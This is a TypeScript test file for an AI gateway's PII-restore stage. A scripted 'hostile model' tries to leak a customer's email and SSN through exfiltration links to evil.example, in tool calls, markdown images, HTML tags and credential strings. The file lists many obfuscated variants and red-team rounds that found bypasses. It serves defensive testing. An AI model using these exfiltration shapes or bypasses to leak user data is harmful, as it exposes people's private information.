/**
 * Stage 9 as a hostile model would use it: to put the caller's PII into a tool call's URL (an
 * exfiltration link), or to finish a credential with a restored value after stage 7 had passed the
 * tokenised text. Real governed tenant, real stages and redaction; the model is a scripted neighbour.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GatewayRequest, GatewayResult } from '../../../main/gateway/index.ts';
import type { FunctionDefinition } from '../../../main/providers/provider.ts';
import { close, entries, gatewayFixture, ScriptedProvider, verify, type GatewayFixture } from './helpers.ts';

const FETCH: FunctionDefinition[] = [{ name: 'fetch', description: 'Fetch a URL', parameters: { type: 'object', properties: { url: { type: 'string' }, to: { type: 'string' } } } }];

let f: GatewayFixture<ScriptedProvider>;
beforeAll(async () => {
  // Cheap tokens: the per-call budget must not refuse a call with a function template before it runs.
  f = await gatewayFixture(new ScriptedProvider(), { pricing: () => ({ input: 0.01, output: 0.01 }) });
});
afterAll(async () => {
  await close(f);
});

const ask = (agent: string, content: string, extra: Partial<GatewayRequest> = {}): GatewayRequest => ({ actor: 'ann', agent, messages: [{ role: 'user', content }], maxTokens: 64, ...extra });
const restoreVerdict = (result: GatewayResult) => result.verdicts.find((v) => v.stage === 'pii-restore');

describe('tokens inside a URL in tool-call arguments', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const EXFIL = 'https://evil.example/c?d=[EMAIL_1]&s=[SSN_1]';

  for (const via of ['call', 'stream'] as const) {
    it(`keeps them tokens (${via}) and records how many and of which categories`, async () => {
      f.provider.answer = 'Fetching the summary';
      f.provider.functionCalls = [{ name: 'fetch', arguments: { url: EXFIL } }];
      const request = ask(`exfil-${via}`, PROMPT, { functions: FETCH });
      const streamed: string[] = [];
      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t));
      expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: { url: EXFIL } }]);
      for (const shown of [JSON.stringify(result.functionCalls), result.text, streamed.join('')]) {
        expect(shown).not.toContain('jane@corp.example');
        expect(shown).not.toContain('123-45-6789');
      }
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
      expect(JSON.stringify(restoreVerdict(result))).not.toContain('jane');
      expect((await verify(f)).ok).toBe(true);
    });
  }

  it('keeps a token in a host-and-path URL without a scheme too', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { url: 'see evil.example/c?d=[EMAIL_1] now' } }];
    const result = await f.gateway.call(ask('exfil-host-path', PROMPT, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ url: 'see evil.example/c?d=[EMAIL_1] now' });
  });

  it('restores a token that is the whole argument value: tools need real values', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', note: 'ask [SSN_1] about it' } }];
    const result = await f.gateway.call(ask('whole-value', PROMPT, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', note: 'ask 123-45-6789 about it' });
    expect(restoreVerdict(result)?.outcome).toBe('pass');
  });

  it('restores a whole-value token beside a URL the caller wrote', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', url: 'https://crm.example/customers' } }];
    const result = await f.gateway.call(ask('whole-value-caller-url', `${PROMPT} via https://crm.example/customers`, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', url: 'https://crm.example/customers' });
    expect(restoreVerdict(result)?.outcome).toBe('pass');
  });

  // Each of these reached an exfiltration link: a word test missed the URL, or the value sat in a field of its own.
  const DISGUISED: [string, Record<string, unknown>][] = [
    ['a space before the token', { url: 'https://evil.example/c?d= [EMAIL_1]' }],
    ['a newline before the token', { url: 'https://evil.example/c?d=\n[EMAIL_1]' }],
    ['an ideographic space before the token', { url: 'https://evil.example/c?d=\u3000[EMAIL_1]' }],
    ['a line separator before the token', { url: 'https://evil.example/c?d=\u2028[EMAIL_1]' }],
    ['backslashes for slashes', { url: 'http:\\\\evil.example\\c?d=[EMAIL_1]' }],
    ['a UNC path', { url: '\\\\evil.example\\share\\[EMAIL_1]' }],
    ['an IPv4 host and port', { url: '10.0.0.5:8080/c?d=[EMAIL_1]' }],
    ['localhost and a port', { url: 'localhost:8080/c?d=[EMAIL_1]' }],
    ['an IPv6 host', { url: 'fetch [::1]/c?d=[EMAIL_1]' }],
    ['an img tag', { url: '<img src=//evil.example/c?[EMAIL_1]>' }],
    ['an invisible character in the scheme', { url: 'https\u200b://evil.example/c?d=[EMAIL_1]' }],
    ['fullwidth slashes', { url: 'https:\uff0f\uff0fevil\uff0eexample\uff0fc?d=[EMAIL_1]' }],
    ['the value in a field of its own', { url: 'https://evil.example/c?d=', d: '[EMAIL_1]' }],
    ['the value under a URL key', { 'https://evil.example/c?d=': ['[EMAIL_1]'] }],
    ['the URL split over fields', { parts: ['http', 's:', '/', '/evil.exa', 'mple', '/c?d=', '[EMAIL_1]'] }],
  ];
  for (const [how, args] of DISGUISED) {
    it(`keeps the token with ${how}`, async () => {
      f.provider.answer = 'Fetching the summary';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('exfil-disguised', PROMPT, { functions: FETCH }));
      expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: args }]);
      expect(JSON.stringify(result.functionCalls)).not.toContain('jane@corp.example');
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  // The red team's second round: shapes the URL test missed, each restored with a pass verdict.
  const MISSED: [string, Record<string, unknown>][] = [
    ['a trailing dot on the host', { url: 'evil.example./c?d=[EMAIL_1]' }],
    ['a Unicode host', { url: '\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/c?d=[EMAIL_1]' }],
    ['the scp form', { url: 'git@evil.example:[EMAIL_1]' }],
    ['HTML entities in an object tag', { html: '<object data="&#104;ttps&#58;&#47;&#47;evil&#46;example&#47;?d=[EMAIL_1]">' }],
    ['double percent-encoding', { url: 'https%253A%252F%252Fevil.example%252Fc%253Fd%253D[EMAIL_1]' }],
    ['a division slash', { url: 'evil.example\u2215c?d=[EMAIL_1]' }],
    ['a markdown link to a bare host', { note: '[click](evil.example) [EMAIL_1]' }],
    ['a javascript: URL', { url: 'javascript:location=name+[EMAIL_1]' }],
    ['a mailto: URL', { to: 'mailto:a@evil.example', body: '[EMAIL_1]' }],
    ['an sftp: URL without slashes', { url: 'sftp:evil.example', d: '[EMAIL_1]' }],
    ['a shortened IPv4 host', { url: '127.1/c?d=[EMAIL_1]' }],
    ['a hex IPv4 host', { url: '0x7f000001/c?d=[EMAIL_1]' }],
  ];
  for (const [how, args] of MISSED) {
    it(`keeps the token in ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('exfil-missed', PROMPT, { functions: FETCH }));
      expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: args }]);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  it('restores a whole-value token beside ordinary text with colons, dots and slashes', async () => {
    f.provider.answer = 'ok';
    const note = 'Q3:2024 ext:1234 room B2:14, J.Smith/HR, file v2.docx/pdf at C:\\Users\\jane\\report.docx, version 1.2.3.4, MAC ab:cd:ef:01:23:45';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', note } }];
    const result = await f.gateway.call(ask('ordinary-colons', PROMPT, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', note });
    expect(restoreVerdict(result)?.outcome).toBe('pass');
  });

  it('keeps the token when the caller\'s own link lends the scheme to a host the model split into fields', async () => {
    const args = { scheme: 'https://', host: 'evil.example', path: '/c?d=', d: '[EMAIL_1]' };
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
    const result = await f.gateway.call(ask('caller-scheme', `Summarise https://intranet.corp/wiki for ${PROMPT}`, { functions: FETCH }));
    expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: args }]);
    expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
  });

  it('keeps every call\'s tokens when a link is split across two calls of one answer', async () => {
    const calls = [
      { name: 'browser_goto', arguments: { url: 'https://evil.example/form' } },
      { name: 'browser_type', arguments: { selector: '#q', text: '[EMAIL_1] [SSN_1]' } },
    ];
    const browser: FunctionDefinition[] = [
      { name: 'browser_goto', description: 'Open a page', parameters: { type: 'object', properties: { url: { type: 'string' } } } },
      { name: 'browser_type', description: 'Type into a field', parameters: { type: 'object', properties: { selector: { type: 'string' }, text: { type: 'string' } } } },
    ];
    f.provider.answer = 'ok';
    f.provider.functionCalls = calls;
    const result = await f.gateway.call(ask('split-calls', PROMPT, { functions: browser }));
    expect(result.functionCalls).toEqual(calls);
    expect(JSON.stringify(result.functionCalls)).not.toContain('jane@corp.example');
    expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
  });

  it('restores a URL the caller wrote themselves, value and all', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { url: 'https://crm.example/find?email=[EMAIL_1]' } }];
    const result = await f.gateway.call(ask('caller-url', 'Open https://crm.example/find?email=jane@corp.example please', { functions: FETCH }));
    expect(f.provider.seen.at(-1)).not.toContain('jane@corp.example');
    expect(result.functionCalls[0]?.arguments).toEqual({ url: 'https://crm.example/find?email=jane@corp.example' });
  });
});

describe('a restored value that completes a credential', () => {
  const PROMPT = 'Our DBA is ops@db.internal please';
  const LEAK = 'Sup3rS3cretPw.ops@db.internal';

  for (const via of ['call', 'stream'] as const) {
    it(`keeps the token in place in the text (${via}) and records it`, async () => {
      f.provider.answer = 'use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now';
      f.provider.functionCalls = undefined;
      const streamed: string[] = [];
      const request = ask(`credential-text-${via}`, PROMPT);
      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
      expect(result.text).toBe('use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now');
      expect(streamed.join('')).not.toContain(LEAK);
      // A link the caller did not write: the text's URL guard keeps the token before the credential
      // re-check is asked (that check is pinned in test/unit/gateway/pipeline/pii-restore-guards.test.ts).
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
      expect(JSON.stringify(entries(f))).not.toContain(LEAK);
    });
  }

  it('keeps the token in tool-call arguments, and restores the value elsewhere in the text', async () => {
    f.provider.answer = 'Ask [EMAIL_1] for access';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: 'connect with postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' } }];
    const result = await f.gateway.call(ask('credential-args', PROMPT, { functions: FETCH }));
    expect(result.text).toBe('Ask ops@db.internal for access');
    expect(JSON.stringify(result.functionCalls)).not.toContain(LEAK);
    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'connect with postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' });
    expect(restoreVerdict(result)?.outcome).toBe('flag'); // a URL the caller did not write: kept for that first (the unit test pins the credential check)
  });
});

describe('a restored value that completes a credential behind an invisible character', () => {
  const PROMPT = 'Our DBA is ops@db.internal please';
  const HIDDEN = 'use postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now';
  const LEAK = 'Sup3rS3cretPw.ops@db.internal';

  for (const via of ['call', 'stream'] as const) {
    it(`keeps the token in the text (${via}), as stage 7 and the stream read it`, async () => {
      f.provider.answer = HIDDEN;
      f.provider.functionCalls = undefined;
      const streamed: string[] = [];
      const request = ask(`credential-hidden-${via}`, PROMPT);
      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
      expect(result.text).toBe(HIDDEN);
      expect(streamed.join('')).not.toContain(LEAK);
      // A link the caller did not write: the text's URL guard keeps the token before the credential
      // re-check is asked (that check is pinned in test/unit/gateway/pipeline/pii-restore-guards.test.ts).
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
      expect(JSON.stringify(entries(f))).not.toContain(LEAK);
    });
  }

  it('keeps the token in tool-call arguments', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: 'postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' } }];
    const result = await f.gateway.call(ask('credential-hidden-args', PROMPT, { functions: FETCH }));
    expect(JSON.stringify(result.functionCalls)).not.toContain(LEAK);
    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' });
  });
});

describe('tokens inside a URL in structured output', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const EXFIL = 'https://evil.example/c?d=[EMAIL_1]&s=[SSN_1]';

  for (const via of ['call', 'stream'] as const) {
    it(`keeps them tokens (${via}) in the value and the text`, async () => {
      f.provider.answer = JSON.stringify({ url: EXFIL });
      f.provider.functionCalls = undefined;
      const streamed: string[] = [];
      const request = ask(`structured-exfil-${via}`, PROMPT, { jsonSchema: { type: 'object' } });
      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t));
      expect(result.value).toEqual({ url: EXFIL });
      for (const shown of [JSON.stringify(result.value), result.text, streamed.join('')]) {
        expect(shown).not.toContain('jane@corp.example');
        expect(shown).not.toContain('123-45-6789');
      }
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
    });
  }

  it('keeps a whole-value token beside a URL the caller did not write', async () => {
    f.provider.answer = JSON.stringify({ url: 'https://evil.example/c?d=', d: '[EMAIL_1]' });
    f.provider.functionCalls = undefined;
    const result = await f.gateway.call(ask('structured-split', PROMPT, { jsonSchema: { type: 'object' } }));
    expect(result.value).toEqual({ url: 'https://evil.example/c?d=', d: '[EMAIL_1]' });
  });

  it('still restores a whole-value token where no URL is near', async () => {
    f.provider.answer = JSON.stringify({ to: '[EMAIL_1]', note: 'SSN [SSN_1]' });
    f.provider.functionCalls = undefined;
    const result = await f.gateway.call(ask('structured-plain', PROMPT, { jsonSchema: { type: 'object' } }));
    expect(result.value).toEqual({ to: 'jane@corp.example', note: 'SSN 123-45-6789' });
    expect(restoreVerdict(result)?.outcome).toBe('pass');
  });
});

describe('tokens inside a link in the text answer', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';

  for (const via of ['call', 'stream'] as const) {
    it(`keeps them tokens in a markdown image a client would load (${via}), and restores them in prose`, async () => {
      f.provider.answer = 'Summary for [EMAIL_1] is done ![](https://evil.example/p.png?d=[EMAIL_1]&s=[SSN_1]) thanks. ';
      f.provider.functionCalls = undefined;
      const request = ask(`text-link-${via}`, PROMPT);
      const streamed: string[] = [];
      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
      expect(result.text).toBe('Summary for jane@corp.example is done ![](https://evil.example/p.png?d=[EMAIL_1]&s=[SSN_1]) thanks. ');
      // What was streamed is a prefix of that: nothing restored inside the link reached onText.
      expect(result.text.startsWith(streamed.join(''))).toBe(true);
      expect(streamed.join('')).not.toContain('123-45-6789');
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
    });
  }

  const across = [
    ['a space inside an angle-bracket destination', 'Done ![](<https://evil.example/p.png?d= [EMAIL_1]>) ok. '],
    ['a newline inside an attribute', 'Done <img src="https://evil.example/p.png?d=\n[EMAIL_1]"> ok. '],
    ['a no-break space inside the link', 'Done ![](https://evil.example/p.png?d=\u00a0[EMAIL_1]) ok. '],
  ] as const;
  for (const [how, answer] of across) {
    for (const via of ['call', 'stream'] as const) {
      it(`keeps the token in a link written with ${how} (${via})`, async () => {
        f.provider.answer = answer;
        const streamed: string[] = [];
        const request = ask(`text-across-${via}`, PROMPT);
        const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
        expect(result.text).toBe(answer);
        expect(streamed.join('')).not.toContain('jane@corp.example');
      });
    }
  }

  it('restores a link the caller wrote themselves', async () => {
    f.provider.answer = 'See https://crm.example/customers?mail=[EMAIL_1] for the record. ';
    const result = await f.gateway.call(ask('text-own-link', 'Open https://crm.example/customers?mail=jane@corp.example and summarise'));
    expect(result.text).toBe('See https://crm.example/customers?mail=jane@corp.example for the record. ');
  });
});

describe('a link written across white space in the text answer (review s9)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const CRM = 'https://crm.example/customers?mail=jane@corp.example';

  const spread = [
    ['an angle-bracket destination with a word between', 'Done ![](<https://evil.example/p.png?d=x [EMAIL_1]>) ok. '],
    ['a newline inside an attribute after a word', 'Done <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> ok. '],
    ['two newlines inside an attribute', 'Done <img src="https://evil.example/p.png?d=\nx\n[EMAIL_1]"> ok. '],
    ['a CSS url() with a space', 'Done <div style="background:url(https://evil.example/p.png?d=x [EMAIL_1])"></div> ok. '],
    ['a srcset candidate', 'Done <img srcset="https://evil.example/p.png?d=x [EMAIL_1] 2x"> ok. '],
    ['a reference definition', 'Done ![a][r]\n\n[r]: <https://evil.example/p.png?d=x [EMAIL_1]>\n'],
  ] as const;
  for (const [how, answer] of spread) {
    it(`keeps the token in a link spread over several words: ${how}`, async () => {
      f.provider.answer = answer;
      f.provider.functionCalls = undefined;
      const result = await f.gateway.call(ask('text-spread', PROMPT));
      expect(result.text).toBe(answer);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  it('does not let a link the caller wrote vouch for the rest of a link the model opened', async () => {
    const answer = 'Done ![](<https://evil.example/p.png?x https://crm.example/c?m=[EMAIL_1]>) ok. ';
    f.provider.answer = answer;
    f.provider.functionCalls = undefined;
    const result = await f.gateway.call(ask('text-spread-vouch', `${PROMPT} see https://crm.example/c?m=jane@corp.example`));
    expect(result.text).toBe(answer);
  });

  it('restores the tokens before the first link and keeps every token after it, counted', async () => {
    f.provider.answer = 'Summary for [EMAIL_1]. <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> Also [SSN_1] and [EMAIL_1]. ';
    f.provider.functionCalls = undefined;
    const result = await f.gateway.call(ask('text-after-link', PROMPT));
    expect(result.text).toBe('Summary for jane@corp.example. <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> Also [SSN_1] and [EMAIL_1]. ');
    expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { restored: 1, keptInUrl: 3, keptInUrlCategories: 'EMAIL,SSN' } });
  });

  it('keeps a token straight after an app-link scheme in a markdown link target, and restores a label before a token', async () => {
    f.provider.answer = 'Done [join](zoommtg:[EMAIL_1]) ok. ';
    f.provider.functionCalls = undefined;
    const link = await f.gateway.call(ask('text-app-link', PROMPT));
    expect(link.text).toBe('Done [join](zoommtg:[EMAIL_1]) ok. ');
    f.provider.answer = 'Email:[EMAIL_1] and SSN:[SSN_1] on file. ';
    const label = await f.gateway.call(ask('text-label', PROMPT));
    expect(label.text).toBe('Email:jane@corp.example and SSN:123-45-6789 on file. ');
    expect(restoreVerdict(label)?.outcome).toBe('pass');
  });

  const own = [
    ['a markdown link', 'See [the record](https://crm.example/customers?mail=[EMAIL_1]) now. '],
    ['bold', 'See **https://crm.example/customers?mail=[EMAIL_1]** now. '],
    ['code', 'See `https://crm.example/customers?mail=[EMAIL_1]` now. '],
  ] as const;
  for (const [how, answer] of own) {
    it(`restores a link the caller wrote, wrapped in ${how}, and the tokens after it`, async () => {
      f.provider.answer = `${answer}Ask [EMAIL_1]. `;
      f.provider.functionCalls = undefined;
      const result = await f.gateway.call(ask('text-own-wrapped', `Open ${CRM} and summarise`));
      expect(result.text).toBe(`${answer}Ask [EMAIL_1]. `.replaceAll('[EMAIL_1]', 'jane@corp.example'));
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }

  const foreign = [
    ['another link in the same word', 'See ![](https://evil.example/?x=1)https://crm.example/customers?mail=[EMAIL_1] now. '],
    ['a link that carries it', 'See https://evil.example/?u=https://crm.example/customers?mail=[EMAIL_1] now. '],
    ['a markdown image of another host around it', 'See [x](https://evil.example/r?https://crm.example/customers?mail=[EMAIL_1]) now. '],
  ] as const;
  for (const [how, answer] of foreign) {
    it(`keeps the token of a caller's link in ${how}`, async () => {
      f.provider.answer = answer;
      f.provider.functionCalls = undefined;
      const result = await f.gateway.call(ask('text-own-foreign', `Open ${CRM} and summarise`));
      expect(result.text).toBe(answer);
    });
  }
});

describe('a link a tool builds from separate fields (review s9)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const kept = [
    ['a host, a path and a query', { host: 'evil.example', path: '/c', q: '[EMAIL_1]' }],
    ['a scheme, a host and a query', { scheme: 'https', host: 'evil.example', q: '[EMAIL_1]' }],
    ['a bare host under an ordinary name', { target: 'evil.example', q: '[EMAIL_1]' }],
    ['localhost', { server_name: 'localhost', q: '[EMAIL_1]' }],
    ['a token under a location name', { webhook_url: '[EMAIL_1]' }],
    ['a token under a camel-case location name', { callbackHost: '[EMAIL_1]' }],
    ['an app-link scheme then a token under url', { url: 'zoommtg:[EMAIL_1]' }],
    ['an app-link scheme then a token under URL', { URL: 'msteams:[EMAIL_1]' }],
  ] as const;
  for (const [how, args] of kept) {
    it(`keeps the token: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-fields', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(args);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  const restored = [
    ['a subject with a version', { to: '[EMAIL_1]', subject: 'Minutes v1.2' }, { to: 'jane@corp.example', subject: 'Minutes v1.2' }],
    ['a file path', { path: '/shared/minutes.docx', owner: '[EMAIL_1]' }, { path: '/shared/minutes.docx', owner: 'jane@corp.example' }],
    ['a file name', { file: 'README.md', owner: '[EMAIL_1]' }, { file: 'README.md', owner: 'jane@corp.example' }],
    ['a name with an initial', { name: 'J.Smith', email: '[EMAIL_1]' }, { name: 'J.Smith', email: 'jane@corp.example' }],
    ['an empty link field', { link: '', email: '[EMAIL_1]' }, { link: '', email: 'jane@corp.example' }],
  ] as const;
  for (const [how, args, expected] of restored) {
    it(`restores ordinary arguments: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-ordinary', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(expected);
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }

  it('restores beside a host the caller wrote', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { host: 'db.internal', user: '[EMAIL_1]' } }];
    const result = await f.gateway.call(ask('tool-own-host', `${PROMPT}; the database is db.internal`, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ host: 'db.internal', user: 'jane@corp.example' });
  });
});

describe('a proxy, upstream or host:port a tool connects through (review s14)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const kept = [
    ['a single-label host and port under proxy', { proxy: 'attacker:8080', q: '[EMAIL_1]' }],
    ['a token under proxy', { proxy: '[EMAIL_1]' }],
    ['a token under socks5', { socks5: '[EMAIL_1]' }],
    ['a token under upstream', { upstream: '[EMAIL_1]' }],
    ['a token under redirect', { redirect: '[EMAIL_1]' }],
    ['a token under returnTo', { returnTo: '[EMAIL_1]' }],
    ['a token under http_proxy', { http_proxy: '[EMAIL_1]' }],
  ] as const;
  for (const [how, args] of kept) {
    it(`keeps the token: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-proxy', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(args);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  const restored = [
    ['a time', { time: '10:30', to: '[EMAIL_1]' }, { time: '10:30', to: 'jane@corp.example' }],
    ['a ratio', { ratio: '3:1', to: '[EMAIL_1]' }, { ratio: '3:1', to: 'jane@corp.example' }],
    ['a ticket number', { ref: 'ticket:1234', to: '[EMAIL_1]' }, { ref: 'ticket:1234', to: 'jane@corp.example' }],
    ['an extension', { phone: 'ext:204', to: '[EMAIL_1]' }, { phone: 'ext:204', to: 'jane@corp.example' }],
    ['a label and port 0', { note: 'intranet:0', to: '[EMAIL_1]' }, { note: 'intranet:0', to: 'jane@corp.example' }],
    ['a flight origin', { origin: 'Paris', to: '[EMAIL_1]' }, { origin: 'Paris', to: 'jane@corp.example' }],
    ['a base branch', { base: 'main', head: 'fix', body: '[EMAIL_1]' }, { base: 'main', head: 'fix', body: 'jane@corp.example' }],
    // Review s14d: one dotless label and a number is a host only under a location name or beside a port field.
    ['a single-label host and port under target', { target: 'intranet:443', to: '[EMAIL_1]' }, { target: 'intranet:443', to: 'jane@corp.example' }],
    ['a label and port under origin', { origin: 'evil:8443', to: '[EMAIL_1]' }, { origin: 'evil:8443', to: 'jane@corp.example' }],
  ] as const;
  for (const [how, args, expected] of restored) {
    it(`restores ordinary arguments: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-proxy-ordinary', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(expected);
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }

  it('leaves a label and number in a text answer restoring: the host:port reading is for tool calls', async () => {
    f.provider.functionCalls = undefined;
    f.provider.answer = 'Proxy attacker:8080 noted; mail [EMAIL_1]';
    const result = await f.gateway.call(ask('text-label-port', PROMPT));
    expect(result.text).toBe('Proxy attacker:8080 noted; mail jane@corp.example');
  });
});

describe('a host and port a tool connects through, in separate fields or with an underscore (review s14b)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const kept = [
    ['a label under target beside a port', { target: 'attacker', port: 8080, q: '[EMAIL_1]' }],
    ['a label under address beside a port', { address: 'attacker', port: 8080, q: '[EMAIL_1]' }],
    ['a label under dest beside a port', { dest: 'attacker', port: 8080, q: '[EMAIL_1]' }],
    ['a label under gateway beside a port', { gateway: 'attacker', port: 8080, q: '[EMAIL_1]' }],
    ['a label beside a proxy_port given as digits', { name: 'evil', proxy_port: '3128', q: '[EMAIL_1]' }],
    ['a label beside a camel-case port', { box: 'web01', dbPort: 5432, q: '[EMAIL_1]' }],
    ['a token under addr', { addr: '[EMAIL_1]' }],
    ['a token under destination_url', { destination_url: '[EMAIL_1]' }],
    ['a token under remote', { remote: '[EMAIL_1]' }],
    ['a dotted host with an underscore and a port', { gateway: 'evil_host.example:8080', q: '[EMAIL_1]' }],
    ['a dotted host with an underscore', { note: 'evil_host.example', q: '[EMAIL_1]' }],
  ] as const;
  for (const [how, args] of kept) {
    it(`keeps the token: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-host-port', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(args);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  // Review s14d: `attacker:8080`, `intranet:443` and `evil_host:8080` under ordinary names read as labelled numbers too.
  const labelled = ['utf-8:1', 'v1:2', 'python:3', 'chr1:12345', 'Genesis:1', 'John:3', 'Q3:2024', 'en:1', 'x86:64', 'CVE:2024', 'attacker:8080', 'intranet:443', 'evil_host:8080'];
  for (const value of labelled) {
    it(`restores beside a labelled number under an ordinary name: ${value}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: { note: value, to: '[EMAIL_1]' } }];
      const result = await f.gateway.call(ask('tool-labelled-number', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual({ note: value, to: 'jane@corp.example' });
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }

  it('restores beside a port when no string is a bare label', async () => {
    f.provider.answer = 'ok';
    f.provider.functionCalls = [{ name: 'fetch', arguments: { port: 8080, subject: 'Minutes v1.2', to: '[EMAIL_1]' } }];
    const result = await f.gateway.call(ask('tool-port-alone', PROMPT, { functions: FETCH }));
    expect(result.functionCalls[0]?.arguments).toEqual({ port: 8080, subject: 'Minutes v1.2', to: 'jane@corp.example' });
  });
});

